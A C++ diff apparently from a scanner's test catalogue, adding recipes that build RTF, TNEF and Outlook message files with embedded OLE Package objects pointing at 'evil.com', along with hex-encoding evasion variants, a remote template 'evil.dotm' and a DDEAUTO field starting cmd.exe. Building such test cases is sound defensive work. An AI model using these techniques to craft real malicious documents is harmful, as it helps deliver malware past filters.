@@ -250,12 +250,92 @@ void add_ole(Catalogue& all) {
   });
 }
 
+std::string hex(std::string_view bytes) {
+  constexpr char digits[] = "0123456789abcdef";
+  std::string out;
+  for (const char c : bytes) (out += digits[static_cast<unsigned char>(c) >> 4]) += digits[c & 15];
+  return out;
+}
+
+std::string rtf_with(const std::string& object_data) {
+  return "{\\rtf1\\ansi text {\\object\\objemb{\\*\\objclass Package}{\\*\\objdata " + object_data + "}{\\result x}}}";
+}
+
+// Something between the digits, every few of them.
+std::string interrupted(const std::string& digits, const std::string& by) {
+  std::string out;
+  for (size_t n = 0; n < digits.size(); n += 6) out += digits.substr(n, 6) + by;
+  return out;
+}
+
+void add_rtf(Catalogue& all) {
+  const auto dropped = [] { return old_object("Package", package("evil.com", hidden())); };
+  all.type("application/rtf", "letter.rtf");
+  all.add("rtf-package", "a program dropped into a text", [=] { return rtf_with(hex(dropped())); });
+  all.add("rtf-ole-file", "an OLE file inside the text", [] {
+    const std::string file =
+        CfbWriter().scattered().stream("_1/\1Ole10Native", ole10_native("evil.com", hidden())).bytes();
+    return rtf_with(hex(old_object("Word.Document.8", file)));
+  });
+  all.add("rtf-blanks", "blanks and line ends between the digits",
+          [=] { return rtf_with(interrupted(hex(dropped()), " \r\n\t")); });
+  all.add("rtf-controls", "controls between the digits, known and unknown",
+          [=] { return rtf_with(interrupted(hex(dropped()), "\\par\\xyzzy-17 \\'41\\~")); });
+  all.add("rtf-groups", "groups with digits of their own between the digits",
+          [=] { return rtf_with(interrupted(hex(dropped()), "{\\*\\abc 4f}")); }, {"rtf-object-readings"});
+  all.add("rtf-inner-group", "the digits stand in groups inside the group of the data",
+          [=] { return rtf_with("{{" + interrupted(hex(dropped()), "}{") + "}}"); });
+  all.add("rtf-bin", "the data as raw bytes", [=] {
+    const std::string data = dropped();
+    return rtf_with("\\bin" + std::to_string(data.size()) + " " + data);
+  });
+  all.add("rtf-half-byte", "a digit too many in front", [=] { return rtf_with("f" + hex(dropped())); },
+          {"rtf-object-readings"});
+  all.add("rtf-no-end", "a text that ends in the middle of the object", [=] {
+    const std::string text = rtf_with(hex(dropped()));
+    return text.substr(0, text.size() - 14);
+  });
+  all.add("rtf-two-data", "the data begins twice", [=] { return rtf_with("\\objdata " + hex(dropped())); });
+  all.add("rtf-data-in-data", "an object in the data of an object",
+          [=] { return rtf_with("0105{\\*\\objdata " + hex(dropped()) + "}"); }, {"rtf-object-readings"});
+  all.add("rtf-shortest-header", "Word wants to see no more than {\\rt", [=] {
+    std::string text = rtf_with(hex(dropped()));
+    return text.replace(0, 6, "{\\rtx");
+  });
+  all.add("rtf-groups-million", "a million groups before the object",
+          [=] { return "{\\rtf1" + std::string(1000000, '{') + rtf_with(hex(dropped())); });
+  all.add_marked(
+      "rtf-template", "a template from elsewhere, whose macros run",
+      [] { return std::string("{\\rtf1{\\*\\template http://example.org/evil.dotm}}"); }, {"rtf-remote-template"},
+      "clean");
+  all.add_marked(
+      "rtf-dde", "a field that starts a program",
+      [] { return std::string("{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe}{\\fldrslt x}}}"); },
+      {"rtf-dde-field"}, "clean");
+  all.type("application/msword", "letter.doc");
+  all.add("rtf-wrong-type", "a text that says it is a document", [=] { return rtf_with(hex(dropped())); });
+  all.type("application/ms-tnef", "winmail.dat");
+  all.add("tnef-rtf-object", "an object in the compressed text of a message", [=] {
+    return TnefWriter().message(MapiProperties().binary(0x1009, compressed_rtf(rtf_with(hex(dropped()))))).bytes();
+  });
+  all.add("tnef-stored-rtf-object", "the same, not compressed", [=] {
+    return TnefWriter().message(MapiProperties().binary(0x1009, stored_rtf(rtf_with(hex(dropped()))))).bytes();
+  });
+  all.type("application/vnd.ms-outlook", "mail.msg");
+  all.add("msg-rtf-object", "an object in the compressed text of a message file", [=] {
+    CfbWriter file;
+    add_message(file, "", "the text").stream("__substg1.0_10090102", compressed_rtf(rtf_with(hex(dropped()))));
+    return file.bytes();
+  });
+}
+
 }  // namespace
 
 std::vector<Recipe> office_recipes() {
   Catalogue all;
   add_tnef(all);
   add_ole(all);
+  add_rtf(all);
   return all.take();
 }
 
